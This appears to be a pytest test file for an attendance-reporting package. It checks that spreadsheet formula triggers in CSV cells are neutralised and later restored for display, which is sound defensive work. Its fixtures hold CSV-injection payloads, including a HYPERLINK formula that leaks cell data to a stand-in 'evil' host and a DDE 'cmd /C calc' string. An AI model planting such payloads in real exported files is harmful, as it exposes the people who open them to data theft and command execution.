"""Issue 30: a CSV cell a spreadsheet would read as a formula is written as text (OWASP's CSV injection advice).

The function on its own (every trigger, numbers, missing values, triggers elsewhere than first, the
page's way back), then a detail CSV and its run page written by ``publish`` from hostile codes.
"""

from __future__ import annotations

import csv
import io
import json
import math
from decimal import Decimal
from pathlib import Path

import markupsafe
import numpy as np
import pandas as pd
import pytest
from airflow.sdk import ObjectStoragePath
from attendance_bridge.reporting import publish
from attendance_bridge.reporting.csv_cells import (
    FORMULA_TRIGGERS,
    neutralise_cell,
    neutralise_formulas,
    restore_cell,
    restore_frame,
    spreadsheet_safe_csv,
)

from tests.reporting.test_pages import _folder, conflicts, sync_report

# The review's finding: a code and a description that together made a working formula.
FORMULA_CODE = '=HYPERLINK("http://evil?"&B2&C2,"x")&T("'
FORMULA_DESCRIPTION = '")&"'


def first_characters_a_spreadsheet_runs(rows: list[list[str]]) -> list[str]:
    """Every cell (as a spreadsheet reads the CSV) that starts with a trigger and is not a number."""

    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    return [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS) and not number(cell)]


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_with_each_trigger_gets_a_quote(trigger: str) -> None:
    assert neutralise_cell(f"{trigger}1+1") == f"'{trigger}1+1"
    assert neutralise_cell(trigger) == f"'{trigger}"


def test_the_triggers_are_owasp_s_six() -> None:
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_the_review_s_code_a_leading_tab_and_a_leading_carriage_return() -> None:
    assert neutralise_cell(FORMULA_CODE) == "'" + FORMULA_CODE
    assert neutralise_cell("\t=cmd|' /C calc'!A0") == "'\t=cmd|' /C calc'!A0"
    assert neutralise_cell("\r\n=1+1") == "'\r\n=1+1"


def test_numbers_negative_ones_too_stay_numbers() -> None:
    for number in (-5, -2.5, 0, 17, np.int64(-3), np.float64(-0.5), Decimal("-1.25"), True):
        assert neutralise_cell(number) is number


def test_missing_values_stay_missing() -> None:
    assert neutralise_cell(None) is None
    assert math.isnan(neutralise_cell(float("nan")))
    assert neutralise_cell(pd.NA) is pd.NA
    assert neutralise_cell(pd.NaT) is pd.NaT
    assert neutralise_cell("") == ""


def test_text_that_looks_like_a_negative_number_is_text() -> None:
    # The type decides: a text cell is text, whatever it looks like (-2+3 is a formula too).
    assert neutralise_cell("-5") == "'-5"
    assert neutralise_cell("-2+3") == "'-2+3"


def test_triggers_elsewhere_than_first_are_left_alone() -> None:
    for text in ("T (=Tardy)", "a-b", "x@y.org", "1+1", "a\tb", "a\rb", "Present (no code)", "2026-03-02", " =1"):
        assert neutralise_cell(text) == text


def test_quotes_before_a_trigger_get_one_more_so_the_page_can_take_one_off() -> None:
    assert neutralise_cell("'=1+1") == "''=1+1"
    assert neutralise_cell("'quoted") == "'quoted"  # no trigger behind the quote: as it is
    for text in ("=x", "'=x", "''=x", "'abc", "'", "''", "", "-5", "'-", "plain", "\t", "'\t=x", "a=b"):
        assert restore_cell(neutralise_cell(text)) == text, repr(text)
    assert restore_cell("'abc") == "'abc"


def test_a_frame_neutralises_its_text_and_keeps_its_numbers() -> None:
    frame = pd.DataFrame(
        {
            "studentid": [-1000110, 1000209],
            "late_minutes": [-2.5, float("nan")],
            "code": [FORMULA_CODE, "T (Tardy)"],
            "student_number": pd.Series(["-20240110", None], dtype="string"),
        }
    )
    safe = neutralise_formulas(frame)
    assert safe["studentid"].tolist() == [-1000110, 1000209] and safe["studentid"].dtype == frame["studentid"].dtype
    assert safe["code"].tolist() == ["'" + FORMULA_CODE, "T (Tardy)"]
    assert safe["student_number"].iloc[0] == "'-20240110" and pd.isna(safe["student_number"].iloc[1])
    assert frame["code"].iloc[0] == FORMULA_CODE  # the caller's frame is not changed
    written = spreadsheet_safe_csv(frame)
    assert written.splitlines()[1].startswith("-1000110,-2.5,")
    read_back = pd.read_csv(io.StringIO(written, newline=""), dtype=str, keep_default_na=False)
    assert restore_frame(read_back)["code"].tolist() == [FORMULA_CODE, "T (Tardy)"]


def test_a_carriage_return_inside_a_text_starts_no_new_row_or_cell() -> None:
    # Unquoted, "Tardy\r=1+1" is two rows to a spreadsheet, the second starting with a formula.
    frame = pd.DataFrame({"code": ["Tardy\r=1+1", "\r@SUM(1)", "a\nb"], "studentid": [1, 2, 3]})
    rows = list(csv.reader(io.StringIO(spreadsheet_safe_csv(frame), newline="")))
    assert rows == [["code", "studentid"], ["Tardy\r=1+1", "1"], ["'\r@SUM(1)", "2"], ["a\nb", "3"]]


def test_a_detail_csv_holds_no_formula_and_its_page_shows_the_codes_as_the_sis_holds_them(tmp_path: Path) -> None:
    codes = {
        11: {"att_code": None, "description": "@SUM(1+1)*cmd|' /C calc'!A0"},  # the Present code: description first
        13: {"att_code": "E", "description": 'Excused\r=HYPERLINK("http://evil")'},  # a CR ends no row
        12: {"att_code": FORMULA_CODE, "description": FORMULA_DESCRIPTION},
    }
    report = sync_report()
    folder = ObjectStoragePath(f"file://{tmp_path}") / "school_100" / _folder(report)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "report.json").write_text(json.dumps(report))
    frame = conflicts().assign(other_attendance_codeid=[13, 12])
    publish.write_detail_csvs(folder, {"conflicts": frame}, codes, {1000110: "-20240110", 1000209: "+1"})

    with Path((folder / "conflicts.csv").path).open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert not first_characters_a_spreadsheet_runs(rows)
    assert rows[1][:2] == ["1000110", "'-20240110"]
    assert rows[1][4] == f"'{FORMULA_CODE} ({FORMULA_DESCRIPTION})"
    assert rows[2][4] == "'@SUM(1+1)*cmd|' /C calc'!A0 (no code)"
    assert len(rows) == 3 and rows[1][-1] == 'E (Excused\r=HYPERLINK("http://evil"))'
    html = Path(publish.render_run_page(folder).path).read_text()
    # The page, rendered from the CSV, shows the text as the SIS holds it (escaped once, as Jinja does).
    for text in (f"{FORMULA_CODE} ({FORMULA_DESCRIPTION})", "@SUM(1+1)*cmd|' /C calc'!A0 (no code)"):
        assert f">{markupsafe.escape(text)}</td>" in html, text
    assert "<td>-20240110</td>" in html and "<td>+1</td>" in html
    assert "&#39;=" not in html and "&#39;@" not in html and "&#39;-" not in html
